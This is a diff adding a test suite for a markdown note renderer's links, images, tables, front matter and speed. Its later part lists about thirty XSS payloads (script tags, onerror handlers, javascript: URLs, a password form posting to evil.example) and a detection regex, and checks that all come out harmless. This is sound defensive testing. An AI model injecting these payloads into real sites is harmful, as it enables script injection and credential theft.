@@ -1,0 +1,193 @@
+import * as fc from 'fast-check'
+import t from 'tap'
+import { renderNote } from '../../src/rendering/markdown.ts'
+import { siteMap } from '../../src/rendering/site-map.ts'
+
+const paths = [
+  'index.md',
+  'Folder/Note one.md',
+  'Folder/index.md',
+  'Folder/pictures/Moon.PNG',
+  'Other/Deep/Target.md',
+  'Target.md',
+  'e\u0301te\u0301.md',
+  'chart.svg',
+]
+const map = siteMap(paths, '/s/notes/')
+const from = 'Folder/Note one.md'
+const html = (note: string, path = from) => renderNote(note, path, map).html.trim()
+
+t.test('links between notes', async t => {
+  const table: [note: string, html: string][] = [
+    ['[a](../Target.md)', '<a href="/s/notes/Target">a</a>'],
+    ['[a](../Target)', '<a href="/s/notes/Target">a</a>'],
+    ['[a](/Target.md#A-heading)', '<a href="/s/notes/Target#h-a-heading">a</a>'],
+    ['[a](Note%20one.md)', '<a href="/s/notes/Folder/Note%20one">a</a>'],
+    ['[a](<Note one.md>)', '<a href="/s/notes/Folder/Note%20one">a</a>'],
+    ['[a](./)', '<a href="/s/notes/Folder/">a</a>'],
+    ['[a](../index.md)', '<a href="/s/notes/">a</a>'],
+    ['[a](#My heading)', '[a](#My heading)'],
+    ['[a](#My%20heading)', '<a href="#h-my-heading">a</a>'],
+    ['[a](nothing.md)', '<span class="missing">a</span>'],
+    ['[a](../../../etc/passwd)', '<span class="missing">a</span>'],
+    ['[a](//evil.example/x)', '<span class="missing">a</span>'],
+    [
+      '[a](https://example.org/?q=1)',
+      '<a href="https://example.org/?q=1" rel="noopener noreferrer">a</a>',
+    ],
+    ['[[Target]]', '<a href="/s/notes/Target">Target</a>'],
+    ['[[target]]', '<a href="/s/notes/Target">target</a>'],
+    ['[[Target|words *here*]]', '<a href="/s/notes/Target">words *here*</a>'],
+    ['[[Deep/Target]]', '<span class="missing">Deep/Target</span>'],
+    ['[[Other/Deep/Target]]', '<a href="/s/notes/Other/Deep/Target">Other/Deep/Target</a>'],
+    [
+      '[[Target#Some Heading!]]',
+      '<a href="/s/notes/Target#h-some-heading">Target › Some Heading!</a>',
+    ],
+    ['[[#Some Heading]]', '<a href="#h-some-heading">Some Heading</a>'],
+    ['[[été]]', '<a href="/s/notes/e%CC%81te%CC%81">été</a>'],
+    ['[[nothing]]', '<span class="missing">nothing</span>'],
+    ['`[[Target]]`', '<code>[[Target]]</code>'],
+    ['[[]]', '[[]]'],
+  ]
+  for (const [note, expected] of table) t.equal(html(note), `<p>${expected}</p>`, note)
+})
+
+t.test('images, tables and headings', async t => {
+  const picture = '/s/notes/Folder/pictures/Moon.PNG'
+  t.equal(
+    html('![the moon](pictures/Moon.PNG)'),
+    `<p><img src="${picture}" alt="the moon" loading="lazy" /></p>`,
+  )
+  t.match(html('![[Moon.PNG]]'), `<img src="${picture}" alt="Moon.PNG"`)
+  t.match(html('![[moon.png|300]]'), `<img src="${picture}" alt="moon.png"`)
+  t.match(html('![[moon.png|the moon]]'), `alt="the moon"`)
+  t.equal(
+    html('![chart](https://tracker.example/pixel.png)'),
+    '<p><a href="https://tracker.example/pixel.png" rel="noopener noreferrer">chart</a></p>',
+    'does not reveal the reader',
+  )
+  t.match(html('![gone](gone.png)'), '<span class="missing">gone</span>')
+  const table = html('| Night | Who |\n| :-- | --: |\n| [[Target\\|Monday]] | Alex |')
+  t.match(table, /<div class="scroll" tabindex="0" role="region" aria-label="Table">\s*<table>/)
+  t.match(table, '<td class="right">Alex</td>')
+  t.match(table, '<a href="/s/notes/Target">Monday</a>')
+  t.match(html('## Nights & days'), '<h2 id="h-nights-days">Nights &amp; days</h2>')
+  t.match(html('## Twice\n\n## Twice'), /id="h-twice"[\s\S]*id="h-twice-\d"/)
+  t.match(html('```js\nlet x\n```'), '<pre tabindex="0"><code class="language-js">let x')
+  t.match(html('~~gone~~ **b** _i_ <mark>m</mark> <kbd>K</kbd>'), '<s>gone</s> <strong>b</strong>')
+})
+
+t.test('front matter and titles', async t => {
+  t.match(renderNote('---\npublish: true\n---\n# One\n\ntext', from, map), {
+    title: 'One',
+    hasHeading: true,
+    html: /^<h1 id="h-one">One<\/h1>/,
+  })
+  t.match(renderNote('\uFEFF---\r\na: b\r\n---\r\ntext', from, map), {
+    title: 'Note one',
+    hasHeading: false,
+    html: '<p>text</p>\n',
+  })
+  const french = '<div lang="fr-CA">\n<p>texte</p>\n</div>\n'
+  for (const line of ['lang: fr-CA', "lang : 'fr-CA'\r", 'title: x\nlang: "fr-CA"\ntags: y'])
+    t.equal(renderNote(`---\n${line}\n---\ntexte`, from, map).html, french, line)
+  for (const line of ['lang: "><b>', 'lang: f', 'slang: fr', 'lang:', 'lang: fr"x'])
+    t.equal(renderNote(`---\n${line}\n---\ntexte`, from, map).html, '<p>texte</p>\n', line)
+  t.equal(renderNote('text\nlang: fr', from, map).html, '<p>text\nlang: fr</p>\n')
+  t.equal(renderNote('text', 'Folder/index.md', map).title, 'Folder')
+  t.equal(renderNote('text', 'index.md', map).title, 'Home')
+  t.match(renderNote('text\n\n---\n\nmore\n\n---\n', from, map).html, /text[\s\S]*more/)
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java\tscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](vbscript:x)',
+  '![x](javascript:alert(1))',
+  '[[javascript:alert(1)]]',
+  '[x](wikilink:javascript%3Aalert(1))',
+  '<iframe src="https://evil.example"></iframe>',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<base href="https://evil.example">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<object data=x></object><embed src=x>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<h1 id="content">x</h1>',
+  '<div class="skip" role="alert">x</div>',
+  '"><img src=x onerror=alert(1)>',
+  '[x](x "onmouseover=alert(1)")',
+  '```"><script>alert(1)</script>\nx\n```',
+]
+
+/** What only something dangerous looks like, in the attributes and elements of finished HTML. */
+const dangerous =
+  /<(?:script|style|iframe|object|embed|form|input|base|meta|link|svg|math|noscript)\b|<[^>]*\s(?:on\w+|style|srcdoc)=|(?:href|src)="\s*(?:javascript|vbscript|data|wikilink):|id="content"|class="skip"/i
+
+t.test('nothing in a note runs', async t => {
+  for (const attack of attacks) {
+    t.notMatch(html(attack), dangerous, attack)
+    t.notMatch(
+      html(`| a |\n|--|\n| ${attack.replaceAll('\n', ' ')} |`),
+      dangerous,
+      `cell: ${attack}`,
+    )
+  }
+})
+
+t.test('nor in any mixture', async () => {
+  const piece = fc.oneof(
+    fc.constantFrom(...attacks),
+    fc.constantFrom(
+      '[',
+      ']',
+      '(',
+      ')',
+      '<',
+      '>',
+      '"',
+      "'",
+      '`',
+      '![[',
+      ']]',
+      '|',
+      '#',
+      '\n',
+      '&#x',
+      '%',
+    ),
+    fc.string({ maxLength: 6 }),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 8 }), pieces => {
+      const elements = html(pieces.join('')).match(/<[^>]*>/g) ?? []
+      // What is inside of quotes is text, whatever it looks like.
+      return elements.every(one => !dangerous.test(one.replaceAll(/ (title|alt)="[^"]*"/g, '')))
+    }),
+    { numRuns: 1_000 },
+  )
+})
+
+t.test('a note is rendered in no time, whatever is in it', async t => {
+  for (const unit of ['[[', '![[a|', '[a](', '**_', '<div>', '> ', '| a ', '# x\n', '`']) {
+    const note = unit.repeat(Math.floor(60_000 / unit.length))
+    const start = process.cpuUsage()
+    html(note)
+    // Processor time: other processes do not count.
+    const took = process.cpuUsage(start).user / 1000
+    t.ok(took < 8_000, `${unit}: ${Math.round(took)} ms`)
+  }
+})
